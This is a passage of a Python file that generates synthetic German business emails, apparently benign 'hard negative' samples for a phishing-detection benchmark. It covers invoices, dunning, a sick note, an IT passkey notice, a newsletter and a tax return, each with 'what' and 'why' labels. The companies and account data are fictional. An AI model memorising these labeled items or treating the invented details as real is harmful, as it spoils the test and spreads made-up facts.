<rsm:CrossIndustryInvoice xmlns:rsm="urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100" xmlns:ram="urn:un:unece:uncefact:data:standard:ReusableAggregateBusinessInformationEntity:100" xmlns:udt="urn:un:unece:uncefact:data:standard:UnqualifiedDataType:100">
  <rsm:ExchangedDocumentContext>
    <ram:GuidelineSpecifiedDocumentContextParameter><ram:ID>urn:cen.eu:en16931:2017#compliant#urn:xeinkauf.de:kosit:xrechnung_3.0</ram:ID></ram:GuidelineSpecifiedDocumentContextParameter>
  </rsm:ExchangedDocumentContext>
  <rsm:ExchangedDocument>
    <ram:ID>RE-2026-10533</ram:ID><ram:TypeCode>380</ram:TypeCode>
    <ram:IssueDateTime><udt:DateTimeString format="102">20261104</udt:DateTimeString></ram:IssueDateTime>
  </rsm:ExchangedDocument>
  <rsm:SupplyChainTradeTransaction>
    <ram:IncludedSupplyChainTradeLineItem>
      <ram:AssociatedDocumentLineDocument><ram:LineID>1</ram:LineID></ram:AssociatedDocumentLineDocument>
      <ram:SpecifiedTradeProduct><ram:Name>Kamerapaket ARRI Alexa 35, Miete 19.10.-31.10.2026</ram:Name></ram:SpecifiedTradeProduct>
      <ram:SpecifiedLineTradeSettlement><ram:SpecifiedTradeSettlementLineMonetarySummation><ram:LineTotalAmount>9840.00</ram:LineTotalAmount></ram:SpecifiedTradeSettlementLineMonetarySummation></ram:SpecifiedLineTradeSettlement>
    </ram:IncludedSupplyChainTradeLineItem>
    <ram:ApplicableHeaderTradeAgreement>
      <ram:BuyerReference>4500017730</ram:BuyerReference>
      <ram:SellerTradeParty><ram:Name>Lieferant GmbH</ram:Name><ram:SpecifiedTaxRegistration><ram:ID schemeID="VA">DE812457391</ram:ID></ram:SpecifiedTaxRegistration></ram:SellerTradeParty>
      <ram:BuyerTradeParty><ram:Name>Example Group GmbH</ram:Name></ram:BuyerTradeParty>
    </ram:ApplicableHeaderTradeAgreement>
    <ram:ApplicableHeaderTradeSettlement>
      <ram:InvoiceCurrencyCode>EUR</ram:InvoiceCurrencyCode>
      <ram:SpecifiedTradeSettlementPaymentMeans><ram:TypeCode>58</ram:TypeCode><ram:PayeePartyCreditorFinancialAccount><ram:IBANID>%s</ram:IBANID></ram:PayeePartyCreditorFinancialAccount></ram:SpecifiedTradeSettlementPaymentMeans>
      <ram:SpecifiedTradeSettlementHeaderMonetarySummation><ram:TaxBasisTotalAmount>9840.00</ram:TaxBasisTotalAmount><ram:TaxTotalAmount currencyID="EUR">1869.60</ram:TaxTotalAmount><ram:GrandTotalAmount>11709.60</ram:GrandTotalAmount><ram:DuePayableAmount>11709.60</ram:DuePayableAmount></ram:SpecifiedTradeSettlementHeaderMonetarySummation>
    </ram:ApplicableHeaderTradeSettlement>
  </rsm:SupplyChainTradeTransaction>
</rsm:CrossIndustryInvoice>
""" % B.LF_OLD).encode("utf-8")
pdf_b03 = files.pdf_doc([
    ("b", "Lieferant GmbH · Kamera · Licht · Bühne"), ("s", "Industriestraße 42 · 50354 Hürth"),
    ("gap", 16), ("l", "Example Group GmbH · Am Coloneum 9 · 50829 Köln"), ("gap", 10),
    ("h", "Rechnung RE-2026-10533"), ("l", "Rechnungsdatum: 04.11.2026     Leistungszeitraum: 19.10.-31.10.2026"),
    ("l", "Ihre Bestellung: 4500017730     Projekt: Nachtschicht, Block 2"), ("gap",),
    ("t", [(56, "Pos.", True), (90, "Bezeichnung", True), (420, "Betrag EUR", True)]), ("rule",),
    ("t", [(56, "1", False), (90, "Kamerapaket ARRI Alexa 35 inkl. Optiken, 13 Drehtage", False), (420, "9.840,00", False)]),
    ("rule",), ("t", [(90, "Nettobetrag", False), (420, "9.840,00", False)]),
    ("t", [(90, "USt. 19 %", False), (420, "1.869,60", False)]),
    ("t", [(90, "Rechnungsbetrag", True), (420, "11.709,60", True)]), ("gap", 14),
    "Zahlbar innerhalb von 30 Tagen ohne Abzug auf unser Konto bei der Sparkasse KölnBonn, IBAN "
    + F(B.LF_OLD) + ", BIC COLSDE33. Die strukturierten Rechnungsdaten (XRechnung) sind beigefügt.",
    ("gap", 20), ("s", "Lieferant GmbH · Amtsgericht Köln HRB 61822 · USt-IdNr. DE812457391 · Geschäftsführer: Werner Lindemann"),
], title="Rechnung RE-2026-10533", author="Lieferant GmbH", producer="Microsoft Dynamics 365 Business Central",
    created="20261104061502+01'00'")
b03 = """Sehr geehrte Damen und Herren,

anbei erhalten Sie unsere Rechnung RE-2026-10533 vom 04.11.2026 über 11.709,60 EUR
(Ihre Bestellung 4500017730, Projekt „Nachtschicht“, Block 2).

Die Rechnung liegt als PDF und als XRechnung (CII) bei.

Mit freundlichen Grüßen
Lieferant GmbH – Buchhaltung

""" + LF_DISCLAIMER
Bz.append(M(
    id="03-de-supplier-invoice-xrechnung", folder="business", lang="de", when="2026-11-04 07:15:40",
    route=I.exo("lieferant-gmbh.de", pod=0), frm=("Lieferant GmbH – Buchhaltung", "rechnungen@lieferant-gmbh.de"),
    to=[s("ap")], subject="Rechnung RE-2026-10533 – Example Group GmbH", hcs="iso-8859-15", henc="Q",
    body=mixed(txt(latin(b03), "iso-8859-15", "8bit"),
               att("RE-2026-10533.pdf", "application/pdf", pdf_b03, kind="text-only PDF invoice"),
               att("RE-2026-10533_xrechnung.xml", "application/xml", xml03, kind="XRechnung 3.0 (CII) e-invoice")),
    what="Regular supplier invoice for camera rental with PDF and XRechnung XML (mandatory e-invoice reception since 2025).",
    why="Supplier's genuine domain and Exchange Online tenant; matches PO 4500017730; known Sparkasse account; structured e-invoice attached, no links.",
    hard_neg_of=(["03-de-thread-hijack-compromised-supplier", "06-de-fake-register-offer"], "supplier document from lieferant-gmbh.de / invoice-like document")))

# 04 urgent dunning with supply stop ------------------------------------------------------
b04 = """Sehr geehrter Herr Brückner,

trotz unserer Zahlungserinnerung vom 06.11.2026 ist die folgende Rechnung weiterhin offen:

RE-2026-10418 vom 08.10.2026 – Kamerapaket ARRI Alexa 35, „Nachtschicht“ Block 1
Betrag: 27.052,00 EUR, fällig seit 07.11.2026

Bitte überweisen Sie den Betrag bis spätestens 26.11.2026 auf unser bekanntes Konto bei der Sparkasse KölnBonn (IBAN %s).

Sollte bis dahin kein Zahlungseingang erfolgen, müssen wir ab dem 27.11.2026 leider eine Liefersperre für weitere Mietaufträge verhängen – das würde auch die bereits reservierten Pakete für Block 3 betreffen. Das möchten wir beide vermeiden.

Falls die Rechnung bei Ihnen strittig ist oder die Zahlung bereits unterwegs ist, geben Sie mir bitte kurz Bescheid, dann klären wir das direkt.

Mit freundlichen Grüßen

%s""" % (F(B.LF_OLD), SIG_LANG)
Bz.append(M(
    id="04-de-supplier-dunning-supply-stop", folder="business", lang="de", when="2026-11-20 10:02:33",
    route=I.exo("lieferant-gmbh.de", pod=0), frm=c("lf_lang"), to=[s("ap")], cc=[s("proc")],
    subject="2. Mahnung RE-2026-10418 – drohende Liefersperre ab 27.11.2026", hcs="windows-1252", henc="Q",
    importance="high",
    body=txt(b04, "windows-1252", "quoted-printable"),
    what="Second reminder from the supplier's receivables clerk, threatening a rental stop if the invoice is not paid by 26 Nov.",
    why="Genuine sender on the real domain/tenant; refers to the known account (unchanged); offers to clarify; urgency is legitimate dunning, no new payment data.",
    hard_neg_of=(["02-de-supplier-bank-change-lookalike"], "urgent payment pressure from Lieferant GmbH / same display name")))

# 05 colleague sick leave from private mail ------------------------------------------
b05 = """Hallo Anja,

mich hat es erwischt (Magen-Darm), ich war heute früh beim Arzt. Krankgeschrieben bin ich bis einschließlich Freitag, die AU geht als eAU an die Krankenkasse, ihr könnt sie wie immer abrufen.

Mein Laptop liegt im Büro, deshalb schreibe ich von privat. Die Disposition für Studio 2 macht bis dahin Lea, sie weiß Bescheid, und Florian hat die Termine mit dem Verleih.

Viele Grüße
Tobias"""
Bz.append(M(
    id="05-de-colleague-sick-leave-private-mail", folder="business", lang="de", when="2026-11-24 07:38:12",
    route=I.gmx("gmx.de", client="webmail", home_ip="84.151.77.203"),
    frm=("Tobias Engel", "tobias.engel@gmx.de"), to=[s("hr")], subject="Krankmeldung bis Freitag",
    body=txt(b05, "utf-8", "quoted-printable", label="UTF-8"),
    what="The head of production reports sick from his private GMX account because his laptop is in the office.",
    why="Plausible private mail (German residential IP, GMX webmail); electronic sick note goes the official eAU route; no request for money or data changes.",
    hard_neg_of=(["08-de-payroll-diversion-private-mail"], "employee writing to HR from private mail")))

# 06 internal IT notice on MFA ------------------------------------------------------------
b06 = """Liebe Kolleginnen und Kollegen,

ab Montag, 23.11.2026, stellen wir die Anmeldung an Microsoft 365 schrittweise auf Passkeys in der Microsoft-Authenticator-App um. Ihr Standort bekommt eine eigene Einladung mit Termin.

Was Sie tun müssen:
- Die Registrierung erfolgt ausschließlich am Firmen-PC über „Meine Sicherheitsinformationen“ (im Intranet unter IT > Anmeldung verlinkt) oder persönlich beim IT-Service im 2. OG, Raum 2.14.
- Sie müssen nichts tun, bevor Ihre Einladung kommt.

Wichtig: Wir verschicken niemals QR-Codes oder Registrierungslinks per E-Mail und wir fragen nie nach Ihrem Passwort oder nach Codes aus der Authenticator-App. Wenn Sie eine solche Nachricht erhalten, leiten Sie sie bitte als Anlage an postmaster@example.com weiter und löschen Sie sie.

Bei Fragen: IT-Service, Durchwahl -444.

Viele Grüße
Lena Vogt
IT-Sicherheit / Mail-Administration
Example Group GmbH"""
Bz.append(M(
    id="06-de-internal-it-mfa-notice", folder="business", lang="de", when="2026-11-17 11:05:19",
    route=I.exchange_internal(user_ip="10.21.6.41", server="EXCH01"), frm=s("itsec"),
    to=[("Alle Mitarbeitenden Köln", "koeln-alle@example.com")],
    subject="Umstellung der Anmeldung auf Passkeys ab 23.11. – bitte lesen",
    body=alt(txt(b06, "utf-8", "base64"), html(ohtml(b06, "utf-8"), "utf-8", "base64")),
    what="Internal IT announcement of the switch to passkeys, with instructions and a warning about fake QR/link mails.",
    why="Internal relay path from the Exchange organisation; no links except the intranet reference; explains the real procedure (company PC or in person).",
    hard_neg_of=(["05-de-quishing-mfa-reregistration", "12-en-teams-helpdesk-vishing-pretext"], "MFA/authenticator registration topic")))

# 07 newsletter via Mailchimp --------------------------------------------------------------
b07t = """FILM & TV PRODUKTION AKTUELL – Ausgabe 11/2026

Liebe Leserinnen und Leser,

die wichtigsten Themen des Monats:

1. Investitionsverpflichtung: Was die Novelle des FFG für Auftragsproduktionen ab 2027 bedeutet
Die Eckpunkte für Produzentinnen und Produzenten im Überblick.
[Weiterlesen](https://filmtv-aktuell.us21.list-manage.com/track/click?u=5c7a1f3e9b2d8c4a6e0f1b3d7&id=a81c4e2f90&e=4f2a9c1b7d)

2. Drehen im Winter: Arbeitszeit und Wetterklauseln in Dispositionen
Praxisbericht einer Herstellungsleiterin.
[Weiterlesen](https://filmtv-aktuell.us21.list-manage.com/track/click?u=5c7a1f3e9b2d8c4a6e0f1b3d7&id=b27d3e1a44&e=4f2a9c1b7d)

3. Termine: Produzententag Köln am 04.12.2026, Anmeldung bis 27.11.

Sie erhalten diesen Newsletter, weil Sie sich auf filmtv-aktuell.de angemeldet haben.
Abmelden: https://filmtv-aktuell.us21.list-manage.com/unsubscribe?u=5c7a1f3e9b2d8c4a6e0f1b3d7&id=e3b8d1c6a2&e=4f2a9c1b7d&c=9d0e2f7a1b

Film & TV Produktion aktuell · Medienverlag Rheinland GmbH · Mediapark 6 · 50670 Köln"""
b07h = """<!doctype html><html><head><meta charset="UTF-8"><meta name="viewport" content="width=device-width, initial-scale=1"><title>Film &amp; TV Produktion aktuell 11/2026</title></head>
<body style="margin:0;padding:0;background:#efefef">
<center><table align="center" border="0" cellpadding="0" cellspacing="0" width="600" style="background:#ffffff;font-family:Georgia,serif;color:#222">
<tr><td style="padding:24px;border-bottom:3px solid #a3122a"><span style="font-size:26px;font-weight:bold">FILM &amp; TV</span> <span style="font-size:16px">Produktion aktuell &middot; 11/2026</span></td></tr>
<tr><td style="padding:20px 24px;font-size:15px;line-height:1.5">
<p>Liebe Leserinnen und Leser,</p><p>die wichtigsten Themen des Monats:</p>
<h3 style="margin-bottom:4px">Investitionsverpflichtung: Was die Novelle des FFG für Auftragsproduktionen ab 2027 bedeutet</h3>
<p style="margin-top:0">Die Eckpunkte für Produzentinnen und Produzenten im Überblick. <a href="https://filmtv-aktuell.us21.list-manage.com/track/click?u=5c7a1f3e9b2d8c4a6e0f1b3d7&amp;id=a81c4e2f90&amp;e=4f2a9c1b7d">Weiterlesen</a></p>
<h3 style="margin-bottom:4px">Drehen im Winter: Arbeitszeit und Wetterklauseln in Dispositionen</h3>
<p style="margin-top:0">Praxisbericht einer Herstellungsleiterin. <a href="https://filmtv-aktuell.us21.list-manage.com/track/click?u=5c7a1f3e9b2d8c4a6e0f1b3d7&amp;id=b27d3e1a44&amp;e=4f2a9c1b7d">Weiterlesen</a></p>
<h3 style="margin-bottom:4px">Termine</h3><p style="margin-top:0">Produzententag Köln am 04.12.2026, Anmeldung bis 27.11.</p>
</td></tr>
<tr><td style="padding:16px 24px;font-size:11px;color:#777;font-family:Arial,sans-serif">Sie erhalten diesen Newsletter, weil Sie sich auf filmtv-aktuell.de angemeldet haben.<br>
<a href="https://filmtv-aktuell.us21.list-manage.com/unsubscribe?u=5c7a1f3e9b2d8c4a6e0f1b3d7&amp;id=e3b8d1c6a2&amp;e=4f2a9c1b7d&amp;c=9d0e2f7a1b">Abmelden</a> &middot; <a href="https://filmtv-aktuell.us21.list-manage.com/profile?u=5c7a1f3e9b2d8c4a6e0f1b3d7&amp;id=e3b8d1c6a2&amp;e=4f2a9c1b7d">Einstellungen ändern</a><br>
Film &amp; TV Produktion aktuell &middot; Medienverlag Rheinland GmbH &middot; Mediapark 6 &middot; 50670 Köln</td></tr>
</table></center>
<img src="https://filmtv-aktuell.us21.list-manage.com/track/open.php?u=5c7a1f3e9b2d8c4a6e0f1b3d7&amp;id=9d0e2f7a1b&amp;e=4f2a9c1b7d" height="1" width="1" alt="">
</body></html>
"""
Bz.append(M(
    id="07-de-newsletter-mailchimp", folder="business", lang="de", when="2026-11-11 06:00:48",
    route=I.mailchimp("us21"), frm=("Film & TV Produktion aktuell", "newsletter@filmtv-aktuell.de"),
    to=[s("prod")], subject="Film & TV Produktion aktuell 11/2026: FFG-Novelle, Winterdrehs, Produzententag",
    list_unsub=[("List-Unsubscribe", "<https://filmtv-aktuell.us21.list-manage.com/unsubscribe?u=5c7a1f3e9b2d8c4a6e0f1b3d7&id=e3b8d1c6a2&e=4f2a9c1b7d&c=9d0e2f7a1b>,\n <mailto:unsubscribe-mc.us21_5c7a1f3e9b2d8c4a6e0f1b3d7.9d0e2f7a1b-4f2a9c1b7d@mailin1.us21.mcsv.net?subject=unsubscribe>"),
                ("List-Unsubscribe-Post", "List-Unsubscribe=One-Click"),
                ("List-Id", "5c7a1f3e9b2d8c4a6e0f1b3d7mc list <5c7a1f3e9b2d8c4a6e0f1b3d7.1187634.list-id.mcsv.net>")],
    env_from=None,
    body=alt(txt(plain(b07t, "esp"), "utf-8", "quoted-printable"), html(b07h, "utf-8", "quoted-printable")),
    what="Monthly trade newsletter (subscribed) sent through Mailchimp.",
    why="Consistent Mailchimp infrastructure, List-Unsubscribe + One-Click, tracked links all on list-manage.com, publisher imprint; no request for action beyond reading.",
    hard_neg_of=(["04-de-elster-tax-office-phish"], "bulk HTML mail through an ESP with tracked links")))

# 08 tax advisor: VAT return for approval -----------------------------------------------------
b08 = """Sehr geehrte Frau Weiß,

anbei die Umsatzsteuer-Voranmeldung Oktober 2026 der Example Group GmbH zur Freigabe.

Zahllast: 48.213,77 EUR (Fälligkeit 10.12.2026, Abbuchung per SEPA-Lastschrift durch das Finanzamt Köln-Nord wie gewohnt).

Auffällig ist nur die höhere Vorsteuer aus den Mietrechnungen „Nachtschicht“ (Lieferant GmbH) und die Reverse-Charge-Leistung von Studio Luce Roma; beides haben wir anhand der Belege in DATEV Unternehmen online geprüft.

Bitte geben Sie die Voranmeldung bis 09.12. in DATEV Unternehmen online frei oder antworten Sie kurz auf diese E-Mail. Die Übermittlung an das Finanzamt erfolgt anschließend über uns; Bescheide und Nachrichten des Finanzamts stellen wir Ihnen wie immer über das Portal bereit.

Mit freundlichen Grüßen

Carolin Brandt
Steuerfachangestellte

Hennig & Partner mbB Steuerberater
Aachener Straße 311 · 50931 Köln
Tel. +49 221 940 27-0 · www.hennig-stb.de"""
pdf_b08 = files.pdf_doc([
    ("b", "Umsatzsteuer-Voranmeldung 2026 – Vorabauszug"), ("l", "Steuernummer 214/5723/0841 · Finanzamt Köln-Nord"),
    ("l", "Unternehmer: Example Group GmbH, Am Coloneum 9, 50829 Köln"), ("l", "Voranmeldungszeitraum: Oktober 2026"), ("gap",),
    ("t", [(56, "Kz. 81", False), (110, "Steuerpflichtige Umsätze 19 %", False), (420, "412.830", False)]),
    ("t", [(56, "Kz. 46", False), (110, "Leistungen nach § 13b UStG (Bemessungsgrundlage)", False), (420, "24.400", False)]),
    ("t", [(56, "Kz. 66", False), (110, "Vorsteuerbeträge", False), (420, "34.225,93", False)]),
    ("t", [(56, "Kz. 83", True), (110, "Verbleibende Umsatzsteuer-Vorauszahlung", True), (420, "48.213,77", True)]),
    ("gap", 20), ("s", "Erstellt mit DATEV · Hennig & Partner mbB Steuerberater · Vorabauszug, nicht übermittelt"),
], title="UStVA 10/2026", author="Hennig & Partner", producer="DATEV Druckausgabe", created="20261203091133+01'00'")
Bz.append(M(
    id="08-de-tax-advisor-vat-return", folder="business", lang="de", when="2026-12-03 09:27:51",
    route=I.exchange_onprem_external("hennig-stb.de", "mail.hennig-stb.de", "mail.hennig-stb.de", "212.114.213.18",
                                     server="HPSRV-EX01", internal_dom="hennig.local"),
    frm=("Carolin Brandt", "kanzlei@hennig-stb.de"), to=[s("cfo")],
    subject="USt-Voranmeldung 10/2026 Example Group GmbH – Freigabe bis 09.12.", hcs="iso-8859-1", henc="Q",
    body=mixed(txt(latin(b08), "iso-8859-1", "quoted-printable"),
               att("UStVA_10-2026_Example_Group_GmbH.pdf", "application/pdf", pdf_b08, kind="text-only PDF")),
    what="The tax advisor sends the October VAT pre-return for approval in DATEV.",
    why="Known advisor on its own domain and own Exchange server; numbers consistent with other mails; approval in the established portal; no links or credential requests.",
    hard_neg_of=(["04-de-elster-tax-office-phish"], "tax office / VAT assessment topic")))

BUSINESS = Bz
